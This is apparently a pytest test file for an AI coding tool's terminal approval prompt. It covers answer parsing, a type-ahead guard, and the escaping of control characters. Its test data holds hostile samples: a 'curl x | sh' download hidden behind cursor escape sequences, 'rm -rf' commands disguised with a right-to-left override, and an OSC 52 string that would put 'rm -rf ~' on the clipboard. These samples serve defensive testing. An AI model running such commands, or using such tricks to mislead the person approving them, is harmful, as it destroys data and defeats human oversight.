"""Reading an approval answer typed in the REPL, the type-ahead guard, and the live output tail."""

from __future__ import annotations

from concurrent.futures import Future

import pytest

from tiller.approvals import Decision
from tiller.repl_approvals import (
    GUARD_SECONDS,
    SHOWN_OUTPUT_LINES,
    OutputTail,
    PendingApprovals,
    describe_request,
    parse_answer,
)
from tiller.testing.clock import ManualClock


@pytest.mark.parametrize(
    ("typed", "decision", "reason"),
    [
        ("y", Decision.ALLOW, ""),
        ("YES", Decision.ALLOW, ""),
        ("a", Decision.ALLOW_SESSION, ""),
        ("n", Decision.DENY, ""),
        ("no, use make test", Decision.DENY, "use make test"),
        ("run the linter first", Decision.DENY, "run the linter first"),
    ],
)
def test_parse_answer(typed: str, decision: Decision, reason: str) -> None:
    """y / a / n, and free text as a denial with that reason."""
    answer = parse_answer(typed)
    assert answer is not None and (answer.decision, answer.reason) == (decision, reason)


def test_empty_answer_asks_again() -> None:
    """An empty line decides nothing."""
    assert parse_answer("  ") is None


def test_output_tail_shows_the_first_lines_then_counts() -> None:
    """Past the limit, lines are counted rather than printed."""
    tail = OutputTail()
    shown = tail.feed("c", "".join(f"{i}\n" for i in range(SHOWN_OUTPUT_LINES + 5)))
    assert (len(shown), tail.finish("c")) == (SHOWN_OUTPUT_LINES, ([], 5))


def test_output_tail_joins_partial_lines() -> None:
    """A line split across deltas prints once, whole."""
    tail = OutputTail()
    assert (tail.feed("c", "hel"), tail.feed("c", "lo\nwor"), tail.finish("c")) == (
        [],
        ["hello"],
        (["wor"], 0),
    )


def asked_at_zero() -> tuple[PendingApprovals, ManualClock]:
    """One open request, asked at clock time 0."""
    pending = PendingApprovals(lambda: None)
    clock = ManualClock(0.0)
    pending.clock = clock
    pending.add({"command": "touch x"}, Future())
    return pending, clock


@pytest.mark.parametrize(
    ("began", "expected"),
    [
        (None, False),
        (-1.0, False),
        (0.0, False),
        (GUARD_SECONDS - 0.01, False),
        (GUARD_SECONDS, True),
        (5.0, True),
    ],
)
def test_only_a_line_begun_after_the_guard_answers(began: float | None, expected: bool) -> None:
    """Lines begun before the question or within the guard time are type-ahead."""
    pending, _ = asked_at_zero()
    assert pending.may_answer(began) is expected


def test_armed_after_the_guard_time() -> None:
    """The prompt shows the answer keys only once the guard time has passed."""
    pending, clock = asked_at_zero()
    before = pending.armed()
    clock.advance(GUARD_SECONDS)
    assert (before, pending.armed()) == (False, True)


def test_the_request_shows_why_it_asks() -> None:
    """The reason the engine gives is printed with the request."""
    lines = describe_request({"command": "ls > x", "reason": "it redirects"})
    assert lines[-1] == "  why it asks: it redirects"


def test_the_request_shows_escape_sequences_as_text() -> None:
    """A command cannot move the cursor to print `ls` over what really runs."""
    lines = describe_request({"command": "\x1b7curl x | sh \x1b8ls -la    "})
    assert lines[1:] == [
        "  $ \\x1b7curl x | sh \\x1b8ls -la    ",
        "  note: it holds characters that do not show (control or format characters), "
        "written here as \\x.. or \\u.... escapes",
    ]


def test_the_description_cannot_rewrite_the_command_line() -> None:
    """The model's description loses its escape sequences and carriage returns."""
    lines = describe_request({"command": "rm -rf src", "description": "tidy\x1b[1A\x1b[2K\r"})
    assert [char for char in "".join(lines) if char in "\x1b\r"] == []


def test_a_right_to_left_override_is_shown() -> None:
    """Bidi controls, which reorder what a terminal shows, become escapes."""
    assert describe_request({"command": "rm -rf \u202egnp.x"})[1] == "  $ rm -rf \\u202egnp.x"


def test_output_lines_cannot_send_escape_sequences_to_the_terminal() -> None:
    """Command output (a file the model wrote, printed by an unasked `cat`) is shown escaped:
    an OSC 52 sequence would set the person's clipboard."""
    tail = OutputTail()
    assert tail.feed("c", "\x1b]52;c;cm0gLXJmIH4=\x1b\\\n") == ["\\x1b]52;c;cm0gLXJmIH4=\\x1b\\"]


def test_output_lines_keep_what_a_carriage_return_leaves() -> None:
    """A progress bar shows its last state, and a CRLF line ending is no escape."""
    tail = OutputTail()
    assert tail.feed("c", "10%\r50%\r100%\r\ndone\r\n") == ["100%", "done"]


def test_a_second_request_waits_unshown_and_its_guard_starts_when_shown() -> None:
    """Behind an open question a new one is not answerable; once shown, its own guard runs."""
    pending, clock = asked_at_zero()
    shown_now = pending.add({"command": "touch b"}, Future())
    clock.advance(5.0)
    pending.answer(parse_answer("y"))  # type: ignore[arg-type]
    before = pending.may_answer(clock())
    shown = pending.next_to_show()
    clock.advance(GUARD_SECONDS - 0.01)
    early = pending.may_answer(clock())
    clock.advance(0.01)
    assert (shown_now, before, shown, early, pending.may_answer(clock())) == (
        False,
        False,
        {"command": "touch b"},
        False,
        True,
    )
